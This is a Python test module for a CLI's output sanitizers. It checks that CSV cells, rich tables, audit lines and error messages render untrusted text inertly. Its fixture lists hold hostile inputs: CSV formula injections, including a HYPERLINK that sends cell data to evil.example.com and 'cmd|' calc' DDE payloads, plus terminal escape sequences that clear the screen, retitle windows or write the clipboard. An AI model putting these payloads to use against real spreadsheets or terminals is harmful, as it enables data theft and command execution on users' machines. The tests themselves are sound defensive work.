"""What the CLI prints of text it did not write: a reason, a description, a storage root, a
server's message. In a spreadsheet it must not run (`access-report -o csv`: a cell starting
= + - @, a tab or a CR is a formula); on a terminal it must not be read as rich markup (a reason
of `[/]` ended `access-report` in a MarkupError, for everyone) nor reach the terminal as control
characters (`ESC[2J` cleared the screen, C1 CSI does the same on many terminals)."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tenantry.apply.manifests import Source
from tenantry.apply.plan import ABSENT, Action, Change
from tenantry.cli import compliance, get, output
from tenantry.cli.apply import _action_lines
from tenantry.cli.audit import _tail_line
from tenantry.cli.sanitize import for_csv, for_rich, for_terminal
from tenantry.sdk.results import Cluster, StorageIntegration

FORMULAS = [
    '=HYPERLINK("http://evil.example.com/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE = [
    "[/]",
    "[bold red]boom[/bold red] [link=http://evil.example.com]x[/link]",
    "trailing backslash \\",
    "\x1b[2J\x1b[H cleared",
    "\x1b]0;owned title\x07",
    "\x1b]52;c;ZWNobyBvd25lZA==\x07",
    "\x9b2J C1 CSI",
    "\x90 DCS \x9c",
    "line\nforged line",
    "bell\x07 del\x7f nul\x00",
    "\u202etxt.exe",
]
# Code points a terminal acts on: C0, DEL, C1 and the bidirectional overrides.
CONTROL = {*range(0x20), 0x7F, *range(0x80, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A)}


def _row(reason: str, **extra: Any) -> dict[str, Any]:
    return {
        "repo": "fraud-models",
        "subject": "user:ana@example.com",
        "role": "editor",
        "via": "direct",
        "granted_at": "2026-03-01T10:00:00.000000Z",
        "granted_by": "user:bo@example.com",
        "reason": reason,
        **extra,
    }


def _controls(text: str) -> set[str]:
    """The control characters in `text`, but the newlines that end lines."""
    return {c for c in text.replace("\n", "") if ord(c) in CONTROL}


@pytest.mark.parametrize("output_of", ["access-report", "replay"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
    output_of: str, capsys: pytest.CaptureFixture[str]
) -> None:
    # A bare CR inside a cell must not start a row of its own either.
    rows = [_row(reason) for reason in [*FORMULAS, "INC-7 on call", "a = b", "one\rrow"]]
    rows.append(_row("ok", granted_by="=1+1"))
    compliance.render(rows, "csv", output_of)
    written = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    reasons = [r["reason"] for r in written]
    assert reasons == [*("'" + f for f in FORMULAS), "INC-7 on call", "a = b", "one\rrow", "ok"]
    assert written[-1]["granted_by"] == "'=1+1"
    for row in written:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize("reason", HOSTILE)
def test_an_access_report_table_shows_hostile_reasons_as_text(
    reason: str, capsys: pytest.CaptureFixture[str]
) -> None:
    compliance.render([_row(reason)], "table", "access in force")
    shown = capsys.readouterr().out
    assert not _controls(shown), repr(shown)
    assert "fraud-models" in shown
    visible = for_terminal(reason)
    # Folded over lines by the table: compare without the table's own line breaks and borders.
    assert visible.replace(" ", "")[:12] in shown.replace(" ", "").replace("│\n│", ""), shown


def test_markup_in_a_reason_is_printed_not_interpreted(capsys: pytest.CaptureFixture[str]) -> None:
    compliance.render([_row("[/]"), _row("[bold]x[/bold]")], "table", "access")
    shown = capsys.readouterr().out
    assert "[/]" in shown
    assert "[bold]x[/bold]" in shown


@pytest.mark.parametrize("root", HOSTILE)
def test_get_tables_show_hostile_text_as_text(
    root: str, capsys: pytest.CaptureFixture[str]
) -> None:
    item = StorageIntegration(name="files", provider="local", storage_root=f"file:///{root}")
    get._print_table(get._KINDS["storage-integrations"], [item])
    shown = capsys.readouterr().out
    assert not _controls(shown), repr(shown)
    assert "files" in shown


@pytest.mark.parametrize("text", HOSTILE)
def test_audit_tail_lines_hold_no_control_characters(text: str) -> None:
    body = {
        "position": 7,
        "occurred_at": "2026-03-01T10:00:00.000000Z",
        "type": "ml_repo.access_granted",
        "fqn": "fraud-models",
        "actor": "user:bo@example.com",
        "data": {"reason": text, text: 1},
    }
    line = _tail_line(body, as_json=False)
    assert "\n" not in line
    assert not _controls(line), repr(line)


@pytest.mark.parametrize("message", HOSTILE)
def test_errors_from_the_service_reach_stderr_as_text(
    message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    output.error(f"not_found: ml repo {message!s} does not exist\n  name: our own second line")
    shown = capsys.readouterr().err
    assert shown.startswith("error:")
    assert shown.endswith("\n  name: our own second line\n")
    assert not _controls(shown), repr(shown)


@pytest.mark.parametrize("description", HOSTILE)
def test_the_plan_of_apply_shows_hostile_values_as_text(description: str) -> None:
    action = Action(
        "update",
        "ml-repo",
        "fraud-models",
        Source("tenancy.yaml", 1, 1),
        [Change("description", "old", description), Change("labels", ABSENT, {description: "x"})],
    )
    assert not _controls(_action_lines(action).plain)


@given(st.text())
def test_for_terminal_leaves_no_control_character_and_is_reversible_to_the_eye(
    text: str,
) -> None:
    shown = for_terminal(text)
    assert not _controls(shown)
    if not any(ord(c) in CONTROL for c in text):
        assert shown == text


@given(st.text())
def test_for_rich_renders_as_exactly_the_visible_text(text: str) -> None:
    from rich.console import Console

    out = io.StringIO()
    Console(file=out, width=10_000, highlight=False, color_system=None).print(
        for_rich(text), end="", soft_wrap=True
    )
    assert out.getvalue() == for_terminal(text)


@given(st.text())
def test_for_csv_never_starts_a_formula(text: str) -> None:
    cell = for_csv(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.removeprefix("'") == text or cell == text


_TEXT = st.text(max_size=40) | st.sampled_from([*FORMULAS, *HOSTILE])
_ROWS = st.lists(
    st.fixed_dictionaries({column: st.none() | _TEXT for column in compliance.COLUMNS}),
    max_size=4,
)


@settings(max_examples=150, deadline=None)
@given(rows=_ROWS)
def test_any_rows_render_as_text_in_a_table_and_as_inert_cells_in_csv(
    rows: list[dict[str, Any]],
) -> None:
    table = io.StringIO()
    with contextlib.redirect_stdout(table):
        compliance.render(rows, "table", "access in force")
    assert not _controls(table.getvalue()), repr(table.getvalue())
    sheet = io.StringIO()
    with contextlib.redirect_stdout(sheet):
        compliance.render(rows, "csv", "access in force")
    written = list(csv.DictReader(io.StringIO(sheet.getvalue())))
    assert written == [{k: for_csv(row[k]) for k in compliance.COLUMNS} for row in rows]


@settings(max_examples=100, deadline=None)
@given(root=_TEXT, region=st.none() | _TEXT, labels=st.dictionaries(_TEXT, _TEXT, max_size=3))
def test_any_text_in_get_tables_is_shown_as_text(
    root: str, region: str | None, labels: dict[str, str]
) -> None:
    shown = io.StringIO()
    with contextlib.redirect_stdout(shown):
        get._print_table(
            get._KINDS["storage-integrations"],
            [StorageIntegration(name="files", provider="local", storage_root=root, region=region)],
        )
        get._print_table(
            get._KINDS["clusters"],
            [
                Cluster(
                    name="c1", region=root, provider="generic", environments=[root], labels=labels
                )
            ],
        )
    assert not _controls(shown.getvalue()), repr(shown.getvalue())


def test_audit_verify_shows_a_hostile_export_as_text(
    tmp_path: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    """An export is a file anyone may hand an auditor: what `verify` quotes of it (a
    prev_hash taken as given) reaches the terminal as text."""
    from tenantry.cli import main

    export = tmp_path / "export.jsonl"
    line = {"position": 5, "prev_hash": "\x1b[2J\x1b]0;t\x07[/]", "hash": "0" * 64, "data": {}}
    export.write_text(json.dumps(line) + "\n")
    assert main(["audit", "verify", str(export)]) == 1
    shown = capsys.readouterr().out
    assert "FAILED at position 5" in shown
    assert "\\x1b[2J\\x1b]0;t\\x07[/]" in shown
    assert not _controls(shown), repr(shown)
